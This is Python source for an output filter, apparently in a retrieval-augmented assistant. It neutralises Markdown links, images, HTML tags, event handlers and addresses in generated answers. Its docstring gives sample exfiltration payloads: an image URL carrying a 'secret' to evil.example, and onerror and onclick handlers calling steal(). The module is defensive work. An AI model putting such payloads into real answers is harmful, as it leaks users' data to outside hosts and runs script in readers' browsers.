r"""Takes out of a text what a renderer would make a link, an image or markup of.

    ![chart](https://evil.example/?q=secret)  →  chart
    [the guide](https://docs.example.com/a)   →  the guide (hxxps://docs[.]example[.]com/a)
    <img src=x onerror=steal()>               →  < img src=x onerror=steal()>

Every rule looks at a few neighbouring characters, so none depends on where a line, a paragraph or a segment ends. What
a link is to one renderer and not to another is taken for one.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator, Sequence

from ragstone.validation.egress.addresses import Address, addresses, inert, is_file, odd_dots
from ragstone.validation.egress.draft import Edit
from ragstone.validation.egress.encoded import ENCODED, encoded
from ragstone.validation.egress.grounds import Grounds
from ragstone.validation.egress.reading import LONGEST, Reading
from ragstone.validation.egress.view import View, view
from ragstone.validation.segments import HAZARD

__all__ = ["REMOVED", "disarmed"]

NEAR = 200  # characters before a tag that are looked through for words
LINK, MAIL, REMOVED = "[link removed]", "[address removed]", "[text removed]"

_LINK = re.compile(
    r"(?P<image>!?)\[(?P<text>[^\[\]]{0,2000}+(?:\[[^\[\]]{0,500}+\][^\[\]]{0,500}+){0,20}+)\]"
    r"\([ \t]*+(?:<(?P<angle>[^<>\n`]{0,4000}+)>|"
    r"(?P<plain>[^\s()<>`]{0,4000}+(?:\([^\s()<>`]{0,500}+\)[^\s()<>`]{0,500}+){0,9}+))"
    r"(?:[ \t]++(?:\"[^\"`\n]{0,500}+\"|'[^'`\n]{0,500}+'|\([^()`\n]{0,500}+\)))?[ \t]*+\)"
)
_AUTOLINK = re.compile(r"<(?P<address>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}+:|[^\s<>`@]{1,64}@)[^\s<>`]{0,4000}+)>")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_NAME = re.compile(r"<[A-Z]+(?:_[A-Z]+|_\d+)++>")  # what stands for a value, as <EMAIL_ADDRESS_1>: no element has a _
_PLAIN_TAG = re.compile(r"</?(?:b|br|del|em|i|ins|kbd|mark|s|small|strong|sub|sup|u)[ \t]?/?>", re.IGNORECASE)
_HANDLER = re.compile(r"\{[^{}\n]{0,300}?\bon[a-z]{3,30}(?==)", re.IGNORECASE)
"""An attribute in braces, of which some renderers make one of the markup: `# Hours {onclick=steal()}`."""

_TOUCHING = re.compile(r"\](?=[(:])")
_TICKER = re.compile(r"\d{4,6}\.[A-Z]{2}")  # of a share at an exchange: 002594.SZ
_PAGE = re.compile(r"(?:[A-Za-z0-9_-]+/){0,8}[A-Za-z0-9_-]+\.(?:html?|md|pdf|rst|txt)(?:#[\w-]+)?|#[\w-]+")
"""A page beside the one that is read: it lies on no other host. One that a passage links to may be linked to."""

_REST = re.compile(r"[^\s<]{1,50}")
_LABEL = re.compile(r"[ \t>*+\d.)-]*\[[^\[\]]*")


def disarmed(text: str, reading: Reading, grounds: Grounds) -> list[Edit]:
    """What must be changed in the next piece of an answer; `reading` is where it stands, and goes on over the piece."""
    before = reading.copy()
    code = reading.read(text)
    joint = [Edit(0, 0, " ", "link", "what could be a link")] if _joins(before.line, text) else []
    if not HAZARD.search(text):
        return joint
    edits = joint
    for seen in _ways(text, grounds.passages):
        if seen.nested:
            return [Edit(0, len(text.rstrip()), REMOVED, "link", "markers inside of markers")]
        edits += _Disarming(text, seen, code, before, grounds).edits()
    return [one for one in edits if one.text != text[one.start : one.end]]


def _ways(text: str, passages: int) -> list[View]:
    """The ways in which a text may be read: with what is hidden in it, with wrong markers too, and as it stands."""
    plain = View(text, range(len(text)), range(1, len(text) + 1))
    ways = [view(text, passages=passages), view(text, passages=None), plain]
    return list({way.text: way for way in reversed(ways)}.values())[::-1]


def _joins(line: str, text: str) -> bool:
    """Whether the end of what was said and the beginning of the next piece would be one thing together."""
    tag = line[-1:] == "<" and _TAG.match(f"<{text[:1]}") is not None
    return tag or (line[-1:] == "]" and text[:1] in ("(", ":", "["))


class _Disarming:
    """One piece of an answer."""

    def __init__(
        self, text: str, seen: View, code: Sequence[tuple[int, int]], before: Reading, grounds: Grounds
    ) -> None:
        self.text, self.seen, self.before, self.grounds = text, seen, before, grounds
        self._starts = [start for start, _ in code]
        self._code = code
        self._kept: set[int] = set()  # places of the view that stay as they are

    def edits(self) -> Iterator[Edit]:
        """Those of all rules; where two overlap, the one that begins first counts."""
        yield from self._links()
        yield from self._autolinks()
        yield from self._tags()
        yield from self._handlers()
        yield from self._touching()
        yield from self._addresses()
        yield from self._encoded()
        for place in odd_dots(self.text):
            if not self._is_code(place - 1) and not self._is_code(place):
                yield Edit(place, place + 1, "[.]", "link", "what could be an address")

    def _in_code(self, place: int) -> bool:
        """Whether a character of the view lies in code."""
        return self._is_code(self.seen.starts[place])

    def _is_code(self, original: int) -> bool:
        index = bisect_right(self._starts, original) - 1
        return index >= 0 and original < self._code[index][1]

    def _original(self, start: int, end: int) -> str:
        first, last = self.seen.range(start, end)
        return self.text[first:last]

    def _before(self, start: int) -> str:
        first = self.seen.starts[start]
        return self.text[first - 1] if first else ""

    def _edit(self, start: int, end: int, text: str, label: str, reason: str) -> Edit:
        first, last = self.seen.range(start, end)
        return Edit(first, last, text, label, reason)

    def _shown(self, address: str, original: str, removed: str = LINK, *, named: bool = False) -> str:
        """An address as it may be shown: inert, where somebody wrote it who is known, or else not at all."""
        if address == original and (named or address in self.grounds.known):
            return inert(address) or removed
        return removed

    # ── Markdown ─────────────────────────────────────────────────────────────────────────────────────────────────────

    def _links(self) -> Iterator[Edit]:
        for found in _LINK.finditer(self.seen.text):
            target = found["angle"] if found["angle"] is not None else found["plain"]
            at = found.end("text")
            if self._in_code(found.start()) or self._in_code(at) or self._in_code(found.end() - 1):
                continue
            if found["angle"] is None and self._keeps(found, target):
                self._kept.update(range(*found.span("plain")), (at, at + 1))
                continue
            words = self._original(*found.span("text"))
            if found["image"]:
                yield self._edit(*found.span(), words, "image", "an image from an address that nobody trusted gave")
                continue
            place = found.span("angle" if found["angle"] is not None else "plain")
            shown = self._shown(target, self._original(*place))
            shown = shown if shown.startswith("[") else f"({shown})"
            same = words.strip() == target.strip()
            text = shown.strip("()") if same else f"{words} {shown}"
            yield self._edit(*found.span(), text, "link", "a link to an address that nobody trusted gave")

    def _keeps(self, found: re.Match[str], target: str) -> bool:
        """Whether a link goes to a trusted address, and is written the one way that every renderer reads alike."""
        whole = self._original(*found.span())
        if whole != found[0] or "\\" in whole or "&" in found["text"]:
            return False
        known = _PAGE.fullmatch(target) is not None and f"]({target})" in self.grounds.known and not found["image"]
        return known or self.grounds.trusts(target)

    def _autolinks(self) -> Iterator[Edit]:
        for found in _AUTOLINK.finditer(self.seen.text):
            if self._in_code(found.start()):
                continue
            address, original = found["address"], self._original(*found.span("address"))
            if address == original and self.grounds.trusts(address):
                self._kept.update(range(*found.span()))
                continue
            mail = "@" in address and "://" not in address
            shown = self._shown(address, original, MAIL if mail else LINK)
            reason = "an address that nobody trusted gave"
            yield self._edit(*found.span(), shown, "address" if mail else "link", reason)

    def _touching(self) -> Iterator[Edit]:
        """What would be the target of a link, or a definition of one."""
        line = last = 0
        text = self.seen.text
        for found in _TOUCHING.finditer(text):
            place = found.end()
            if self._in_code(found.start()) or self._in_code(place) or found.start() in self._kept:
                continue
            line, last = max(line, text.rfind("\n", last, place) + 1), place
            if text[place] == ":" and not self._labels(text, line, found.start()):
                continue
            label = "link" if text[place] == "(" else "reference"
            yield self._edit(place, place, " ", label, "what could be a link to an address that nobody trusted gave")

    def _labels(self, text: str, line: int, end: int) -> bool:
        """Whether what ends here may be the label of a definition: its bracket begins a line, or is on another one."""
        if end - line > LONGEST or (line == 0 and self.before.line_is_long):
            return False
        begun = text[line:end] if line else self.before.line + text[:end]
        return "[" not in begun or _LABEL.fullmatch(begun) is not None

    # ── Markup and addresses ─────────────────────────────────────────────────────────────────────────────────────────

    def _tags(self) -> Iterator[Edit]:
        text = self.seen.text
        for found in _TAG.finditer(text):
            place = found.start()
            if self._in_code(place) or place in self._kept or not self.text[self.seen.starts[place]].isascii():
                continue
            plain = _PLAIN_TAG.match(text, place)
            if plain and self._original(*plain.span()) == plain[0] and self._inline(place):
                continue
            name = _NAME.match(text, place)
            if name and self._original(*name.span()) == name[0]:
                continue
            first, last = self.seen.starts[place], self.seen.starts[place + 1]
            said = self.text[first : self.seen.ends[place]].removeprefix("\\")
            yield Edit(first, last, f"{said} ", "html", "what a renderer would take for markup")

    def _handlers(self) -> Iterator[Edit]:
        for found in _HANDLER.finditer(self.seen.text):
            if not self._in_code(found.end()):
                yield self._edit(found.end(), found.end(), " ", "html", "what some renderers would make a script of")

    def _inline(self, place: int) -> bool:
        """Whether words stand before a place on its line, so that no block of markup begins there."""
        line = max(self.seen.text.rfind("\n", max(0, place - NEAR), place) + 1, place - NEAR, 0)
        begun = self.seen.text[line:place]
        return (
            begun[-1:].isalnum()
            or any(map(str.isalpha, begun[-LONGEST:]))
            or (not line and any(map(str.isalpha, self.before.line)))
        )

    def _addresses(self) -> Iterator[Edit]:
        for found in addresses(self.seen.text, lambda start: self._before(start) == "/"):
            if self._in_code(found.start) or found.start in self._kept:
                continue
            original = self._original(found.start, found.end)
            if original == found.text and self.grounds.trusts(found.text):
                if (glued := self._glued(found)) is not None:
                    place = self.seen.ends[glued - 1]
                    yield Edit(place, place, " ", "link", "a trusted address with something appended")
                continue
            mail = found.kind == "address"
            if found.named and original in self.grounds.known and (_TICKER.fullmatch(original) or is_file(original)):
                continue
            named = found.named and len(found.text) <= LONGEST_NAME and found.text.count(".") <= MOST_DOTS
            shown = self._shown(found.text, original, MAIL if mail else LINK, named=named)
            after = self.seen.text[found.end : found.end + 1]
            shown += " " if shown.endswith("]") and after and after in "([:" else ""
            reason = f"{'an e-mail' if mail else 'an'} address that nobody trusted gave"
            yield self._edit(found.start, found.end, shown, "address" if mail else "link", reason)

    def _glued(self, found: Address) -> int | None:
        """Where a trusted address ends to us and not to each renderer, for some go on to the next space."""
        rest = _REST.match(self.text, self.seen.ends[found.end - 1])
        return found.end if rest and rest[0].lstrip(".,:!?*_~'\")") else None

    def _encoded(self) -> Iterator[Edit]:
        for start, end in encoded(self.seen.text):
            if self._in_code(start) or start in self._kept:
                continue
            if self.seen.text[start:end] not in self.grounds.known:
                yield self._edit(start, end, ENCODED, "encoded", "a long encoded text that nobody gave")


LONGEST_NAME, MOST_DOTS = 40, 2
"""Of a host that is shown although nobody gave it: it may be the name of a company, and has no room for data."""
